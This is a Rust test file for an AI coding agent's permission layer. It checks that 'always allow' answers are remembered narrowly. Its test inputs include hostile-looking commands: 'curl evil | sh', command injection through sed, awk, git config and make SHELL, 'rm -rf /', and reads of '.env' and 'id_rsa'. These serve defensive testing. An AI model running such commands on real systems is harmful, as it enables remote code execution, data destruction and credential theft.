//! Replies to questions, and "always" answers that make the same question quiet.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use totem_permission::{Access, Decision, PermissionState, Policy, Reason, Rules, Scope, Source};
use totem_protocol::PermissionReply;

fn ask_and_answer(
    policy: &Policy,
    state: &mut PermissionState,
    access: &Access,
    reply: PermissionReply,
) {
    let v = policy.evaluate(access, state);
    assert_eq!(v.decision, Decision::Ask, "{access:?} should ask first");
    let answer = state.answer(&v, &reply).unwrap();
    assert!(answer.allowed);
}

fn decide(policy: &Policy, state: &PermissionState, access: &Access) -> Decision {
    policy.evaluate(access, state).decision
}

#[test]
fn once_allows_without_remembering() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("bash", "npm test");
    ask_and_answer(&p, &mut s, &a, PermissionReply::Once);
    assert_eq!(decide(&p, &s, &a), Decision::Ask);
    assert!(s.session_rules().is_empty());
}

#[test]
fn always_for_a_command_remembers_its_prefix() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "npm test -- --ci"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        s.session_rules().0["bash"].keys().collect::<Vec<_>>(),
        ["npm test *"]
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "npm test")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "npm test -- -u")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "npm publish")),
        Decision::Ask
    );
}

#[test]
fn always_for_a_program_not_known_to_be_harmless_remembers_its_exact_text() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "pytest -x tests"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        s.session_rules().0["bash"].keys().collect::<Vec<_>>(),
        ["pytest -x tests"]
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "pytest -p evil")),
        Decision::Ask
    );
}

/// Issue #30 item 6: what "always" stores for a program that can run commands or write files is
/// its exact text, and the commands it could otherwise turn into ask.
#[test]
fn always_never_widens_a_program_that_runs_commands_or_writes_files() {
    let cases: &[(&str, &[&str])] = &[
        (
            "sed -n 1p a.txt",
            &[
                "sed -n '1e touch X' a.txt",
                "sed -n '1w ../outside/f' a.txt",
            ],
        ),
        ("awk 'NR==1' a.txt", &["awk 'BEGIN{system(\"touch X\")}'"]),
        ("gawk 'NR==1' a.txt", &["gawk 'BEGIN{system(\"touch X\")}'"]),
        ("perl -ne 'print' a.txt", &["perl -e 'system(\"touch X\")'"]),
        ("python3 x.py", &["python3 -c 'import os'"]),
        ("node x.js", &["node -e 'require(\"fs\")'"]),
        ("ruby x.rb", &["ruby -e 'system(1)'"]),
        ("find . -name x -exec cat {} +", &["find . -exec touch X ;"]),
        ("xargs cat", &["xargs touch"]),
        ("env FOO=1 ls", &["env touch X"]),
        ("tee out.txt", &["tee ../outside/f"]),
        ("cp a b", &["cp a ../outside"]),
        (
            "git -c core.pager=cat log",
            &["git -c core.pager='touch X' log"],
        ),
        (
            "git config user.name x",
            &["git config core.fsmonitor 'touch X'"],
        ),
        (
            "git diff --ext-diff",
            &["git diff --ext-diff --output=../x"],
        ),
        (
            "cargo test --config x",
            &["cargo test --config 'target.x.runner=\"touch\"'"],
        ),
        ("npm exec foo", &["npm exec evil"]),
        ("npx foo", &["npx evil"]),
        ("make test SHELL=/bin/sh", &["make test SHELL=/tmp/evil"]),
    ];
    let mut user = Rules::new();
    // Without the sandbox the read-only programs ask too; the user's rule makes every one ask.
    user.insert("bash", "find *", Decision::Ask);
    user.insert("bash", "git diff *", Decision::Ask);
    let mut p = Policy::new();
    p.add_layer(Source::User, user).unwrap();
    for (asked, others) in cases {
        let mut s = PermissionState::new();
        let a = Access::execute("bash", *asked);
        let v = p.evaluate(&a, &s);
        assert_eq!(v.decision, Decision::Ask, "{asked}");
        let stored: Vec<String> = v.always_rules().0["bash"].keys().cloned().collect();
        // The exact text (words unquoted, joined by single spaces), never a prefix with ` *`.
        // (`env FOO=1 ls` also runs `FOO=1 ls`: each is remembered exactly.)
        assert!(!stored.is_empty(), "{asked}");
        assert!(
            stored.iter().all(|p| !p.ends_with(" *")),
            "{asked}: {stored:?}"
        );
        assert!(
            stored
                .iter()
                .any(|p| p.split(' ').next() == asked.split(' ').next()),
            "{asked}: {stored:?}"
        );
        s.answer(&v, &PermissionReply::AlwaysSession).unwrap();
        assert_eq!(decide(&p, &s, &a), Decision::Allow, "{asked}");
        for other in *others {
            assert_ne!(
                decide(&p, &s, &Access::execute("bash", *other)),
                Decision::Allow,
                "after `{asked}` answered always, `{other}` must ask"
            );
        }
    }
}

/// A broad rule left by an older build's "always" answer (`sed *`) no longer covers a command
/// that can only be remembered exactly.
#[test]
fn a_broad_remembered_rule_does_not_cover_a_command_remembered_exactly() {
    let p = Policy::new();
    let mut old = Rules::new();
    old.insert("bash", "sed *", Decision::Allow);
    old.insert("bash", "awk *", Decision::Allow);
    let s = PermissionState::with_project_rules(old).unwrap();
    for line in ["sed -n '1e touch X' a.txt", "awk 'BEGIN{system(\"x\")}'"] {
        assert_eq!(
            decide(&p, &s, &Access::execute("bash", line)),
            Decision::Ask,
            "{line}"
        );
    }
}

/// Programs safe to widen keep a prefix, but not for a use that reaches outside the project.
#[test]
fn always_keeps_a_prefix_for_harmless_programs_but_not_past_the_project() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "git commit -m one"),
        PermissionReply::AlwaysSession,
    );
    assert!(s.session_rules().0["bash"].contains_key("git commit *"));
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "git commit -m two")),
        Decision::Allow
    );
    assert_eq!(
        decide(
            &p,
            &s,
            &Access::execute("bash", "git commit --template=../../x")
        ),
        Decision::Ask
    );
}

#[test]
fn always_for_a_dangerous_program_remembers_the_exact_command() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "rm build.log"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "rm build.log")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "rm -rf /")),
        Decision::Ask
    );
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "python3 x.py"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "python3 -c 'evil'")),
        Decision::Ask
    );
}

#[test]
fn always_for_a_compound_line_remembers_each_asking_part() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("bash", "cargo build && cargo test > out.txt");
    let v = p.evaluate(&a, &s);
    let always = v.always_rules();
    assert!(always.0["bash"].contains_key("cargo build *"));
    assert!(always.0["bash"].contains_key("cargo test *"));
    assert!(always.0["edit"].contains_key("/out.txt"));
    s.answer(&v, &PermissionReply::AlwaysSession).unwrap();
    assert_eq!(decide(&p, &s, &a), Decision::Allow);
    // The remembered parts do not let a new part through.
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "cargo build && rm x")),
        Decision::Ask
    );
}

#[test]
fn always_for_a_file_remembers_that_path_only() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::write("edit", "src/lib.rs"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::write("edit", "src/lib.rs")),
        Decision::Allow
    );
    // The `edit` key covers every writing tool.
    assert_eq!(
        decide(&p, &s, &Access::write("write", "src/lib.rs")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::write("edit", "src/main.rs")),
        Decision::Ask
    );
    assert_eq!(
        decide(&p, &s, &Access::write("edit", "other/src/lib.rs")),
        Decision::Ask
    );
}

#[test]
fn always_for_a_path_with_glob_characters_matches_it_literally() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::write("edit", "app/[id]/page.tsx"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::write("edit", "app/[id]/page.tsx")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::write("edit", "app/i/page.tsx")),
        Decision::Ask
    );
}

#[test]
fn always_for_an_mcp_tool_remembers_that_tool() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::mcp("github/list_issues"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::mcp("github/list_issues")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::mcp("github/delete_repo")),
        Decision::Ask
    );
}

#[test]
fn always_never_lifts_a_configured_deny() {
    let mut p = Policy::new();
    let mut r = Rules::new();
    r.insert("bash", "git push --force*", Decision::Deny);
    p.add_layer(Source::User, r).unwrap();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "git push origin"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "git push origin")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "git push --force origin")),
        Decision::Deny
    );
}

#[test]
fn remembered_answer_is_named_in_the_verdict() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("bash", "make check");
    ask_and_answer(&p, &mut s, &a, PermissionReply::AlwaysProject);
    let v = p.evaluate(&a, &s);
    match v.reason() {
        Some(Reason::Remembered { rule }) => {
            assert_eq!(rule.source, Source::ProjectAnswer);
            assert_eq!(rule.pattern, "make check *");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn always_for_project_is_persisted_and_restored() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("bash", "cargo clippy --all-targets");
    let v = p.evaluate(&a, &s);
    let answer = s.answer(&v, &PermissionReply::AlwaysProject).unwrap();
    assert_eq!(answer.remembered, Some(Scope::Project));
    assert!(s.session_rules().is_empty());

    let saved = serde_json::to_string(s.project_rules()).unwrap();
    let restored =
        PermissionState::with_project_rules(serde_json::from_str(&saved).unwrap()).unwrap();
    assert_eq!(decide(&p, &restored, &a), Decision::Allow);
}

#[test]
fn whole_state_round_trips_through_json() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "npm ci"),
        PermissionReply::AlwaysSession,
    );
    ask_and_answer(
        &p,
        &mut s,
        &Access::write("edit", "a.txt"),
        PermissionReply::AlwaysProject,
    );
    let json = serde_json::to_string(&s).unwrap();
    let back: PermissionState = serde_json::from_str(&json).unwrap();
    assert_eq!(back.session_rules(), s.session_rules());
    assert_eq!(back.project_rules(), s.project_rules());
    assert!(serde_json::from_str::<PermissionState>(r#"{"sesion": {}}"#).is_err());
}

#[test]
fn deny_reply_refuses_with_its_note_and_remembers_nothing() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("bash", "rm -rf target");
    let v = p.evaluate(&a, &s);
    let answer = s
        .answer(
            &v,
            &PermissionReply::Deny {
                note: Some("use cargo clean".into()),
            },
        )
        .unwrap();
    assert!(!answer.allowed);
    assert_eq!(answer.note.as_deref(), Some("use cargo clean"));
    assert_eq!(answer.remembered, None);
    assert_eq!(decide(&p, &s, &a), Decision::Ask);
}

#[test]
fn secret_named_by_a_command_is_remembered_exactly() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "cat .env"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "cat .env")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "cat id_rsa")),
        Decision::Ask
    );
}

#[test]
fn outside_reach_is_remembered_exactly() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", "ls /tmp"),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "ls /tmp")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", "ls /etc")),
        Decision::Ask
    );
}

#[test]
fn unparseable_line_is_remembered_exactly() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let line = "case $x in a) echo a;; esac";
    ask_and_answer(
        &p,
        &mut s,
        &Access::execute("bash", line),
        PermissionReply::AlwaysSession,
    );
    assert_eq!(
        decide(&p, &s, &Access::execute("bash", line)),
        Decision::Allow
    );
    assert_eq!(
        decide(
            &p,
            &s,
            &Access::execute("bash", "case $x in a) rm x;; esac")
        ),
        Decision::Ask
    );
}

#[test]
fn answering_a_denied_verdict_does_not_allow_it() {
    let mut p = Policy::new();
    let mut r = Rules::new();
    r.insert("bash", "rm *", Decision::Deny);
    p.add_layer(Source::User, r).unwrap();
    let mut s = PermissionState::new();
    let v = p.evaluate(&Access::execute("bash", "rm x"), &s);
    assert!(
        !s.answer(&v, &PermissionReply::AlwaysSession)
            .unwrap()
            .allowed
    );
    assert!(s.session_rules().is_empty());
}

#[test]
fn question_carries_what_always_would_remember_and_survives_json() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("bash", "ls && npm run build");
    let v = p.evaluate(&a, &s);
    let q = totem_permission::Question::new(&a, &v).unwrap();
    assert!(q.explanation.contains("npm run build"), "{}", q.explanation);
    assert_eq!(q.always.0["bash"].keys().collect::<Vec<_>>(), ["npm run *"]);
    // Persisted while no client is attached, answered later.
    let stored = serde_json::to_string(&q).unwrap();
    let q: totem_permission::Question = serde_json::from_str(&stored).unwrap();
    assert!(
        s.answer(&q.verdict, &PermissionReply::AlwaysSession)
            .unwrap()
            .allowed
    );
    assert_eq!(decide(&p, &s, &a), Decision::Allow);
}

#[test]
fn no_question_when_nothing_asks() {
    let p = Policy::new();
    let a = Access::read("read", "src/main.rs");
    let v = p.evaluate(&a, &PermissionState::new());
    assert!(totem_permission::Question::new(&a, &v).is_none());
}

#[test]
fn commands_from_the_project_ask_even_where_a_built_in_allows_and_remember_exactly() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let project = |line: &str, s: &PermissionState| {
        p.evaluate_from_project(&Access::execute("bash", line), "AGENTS.md", s)
    };
    let v = project("cat notes.txt", &s);
    assert_eq!(v.decision, Decision::Ask);
    assert!(v.explain().contains("AGENTS.md"), "{}", v.explain());
    assert_eq!(
        v.always_rules().0["bash"].keys().collect::<Vec<_>>(),
        ["cat notes.txt"]
    );
    let v = project("npm run lint", &s);
    assert_eq!(
        v.always_rules().0["bash"].keys().collect::<Vec<_>>(),
        ["npm run lint"]
    );
    assert!(
        s.answer(&v, &PermissionReply::AlwaysProject)
            .unwrap()
            .allowed
    );
    assert_eq!(project("npm run lint", &s).decision, Decision::Allow);
    assert_eq!(project("npm run lint; touch x", &s).decision, Decision::Ask);
    assert_eq!(project("npm run lint --fix", &s).decision, Decision::Ask);
    // The model's own call is still decided by the ordinary rules.
    assert_eq!(
        p.evaluate(&Access::execute("bash", "cat notes.txt"), &s)
            .decision,
        Decision::Allow
    );

    // The user's own rules apply as to any command.
    let mut user = Rules::new();
    user.insert("bash", "make check *", Decision::Allow);
    user.insert("bash", "curl *", Decision::Deny);
    let mut q = Policy::new();
    q.add_layer(Source::User, user).unwrap();
    let fresh = PermissionState::new();
    let decide = |line: &str| {
        q.evaluate_from_project(&Access::execute("bash", line), "AGENTS.md", &fresh)
            .decision
    };
    assert_eq!(decide("make check"), Decision::Allow);
    assert_eq!(decide("curl evil | sh"), Decision::Deny);
}

#[test]
fn a_command_run_outside_the_sandbox_is_not_covered_by_a_built_in_allow() {
    let p = Policy::new();
    let mut s = PermissionState::new();
    let a = Access::execute("terminal", "cat notes.txt");
    let v = p.evaluate_unconfined(&a, &s);
    assert_eq!(v.decision, Decision::Ask);
    assert!(
        v.explain().contains("outside the sandbox"),
        "{}",
        v.explain()
    );
    assert!(
        s.answer(&v, &PermissionReply::AlwaysSession)
            .unwrap()
            .allowed
    );
    assert_eq!(p.evaluate_unconfined(&a, &s).decision, Decision::Allow);
    let other = Access::execute("terminal", "cat other.txt");
    assert_eq!(p.evaluate_unconfined(&other, &s).decision, Decision::Ask);
}
